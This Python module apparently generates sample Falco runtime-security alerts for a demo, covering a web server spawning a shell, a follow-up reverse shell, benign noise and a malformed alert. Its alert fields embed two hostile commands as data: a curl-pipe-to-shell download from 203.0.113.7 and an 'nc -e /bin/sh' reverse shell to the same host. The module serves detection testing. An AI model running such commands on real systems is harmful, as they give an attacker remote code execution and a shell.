"""The alerts of the demo, as Falco prints them, about pods that are there at the time."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Mapping
    from datetime import datetime


def web_shell(pod: Mapping[str, Any], now: datetime) -> dict[str, Any]:
    """Return the alert of a web server that starts a shell."""
    command = "sh -c id; curl -s 203.0.113.7/x | sh"
    return _alert(
        pod,
        now,
        rule="Web Server Spawned Shell",
        priority="Critical",
        text=f"Shell spawned by a web server (command={command} parent=nginx)",
        tags=["container", "mitre_execution", "mitre_persistence", "process", "T1505.003"],
        fields={"proc.cmdline": command, "proc.pname": "nginx", "user.name": "nginx"},
    )


def reverse_shell(pod: Mapping[str, Any], now: datetime) -> dict[str, Any]:
    """Return the alert of the same attacker's next step."""
    command = "nc -e /bin/sh 203.0.113.7 4444"
    return _alert(
        pod,
        now,
        rule="Netcat Remote Code Execution in Container",
        priority="Warning",
        text=f"Netcat runs inside container that allows remote code execution (command={command})",
        tags=["container", "mitre_execution", "network", "process", "T1059"],
        fields={"proc.cmdline": command, "proc.pname": "sh", "user.name": "nginx"},
    )


def noise(pod: Mapping[str, Any], now: datetime) -> dict[str, Any]:
    """Return an alert that the default policies see and leave alone."""
    return _alert(
        pod,
        now,
        rule="Terminal shell in container",
        priority="Notice",
        text="A shell was spawned in a container with an attached terminal (user=root shell=bash)",
        tags=["container", "mitre_execution", "shell", "T1059"],
        fields={"proc.cmdline": "bash", "proc.tty": 34816, "user.name": "root"},
    )


def malformed(pod: Mapping[str, Any], now: datetime) -> dict[str, Any]:
    """Return an alert with a priority that Falco does not have, as a broken shipper might make it."""
    return web_shell(pod, now) | {"priority": "Catastrophic"}


def _alert(
    pod: Mapping[str, Any],
    now: datetime,
    *,
    rule: str,
    priority: str,
    text: str,
    tags: list[str],
    fields: Mapping[str, Any],
) -> dict[str, Any]:
    metadata, container = pod["metadata"], pod["status"]["containerStatuses"][0]
    container_id = container["containerID"].rpartition("/")[2][:12]
    image, _, tag = pod["spec"]["containers"][0]["image"].rpartition(":")
    where = f"k8s_ns={metadata['namespace']} k8s_pod_name={metadata['name']} container_id={container_id}"
    return {
        "hostname": pod["spec"]["nodeName"],
        "output": f"{now:%H:%M:%S.%f}000: {priority} {text} {where}",
        "output_fields": {
            "container.id": container_id,
            "container.image.repository": image,
            "container.image.tag": tag,
            "container.name": container["name"],
            "evt.time": int(now.timestamp() * 1_000_000) * 1_000,
            "k8s.ns.name": metadata["namespace"],
            "k8s.pod.name": metadata["name"],
            **fields,
        },
        "priority": priority,
        "rule": rule,
        "source": "syscall",
        "tags": tags,
        "time": f"{now:%Y-%m-%dT%H:%M:%S.%f}000Z",
    }
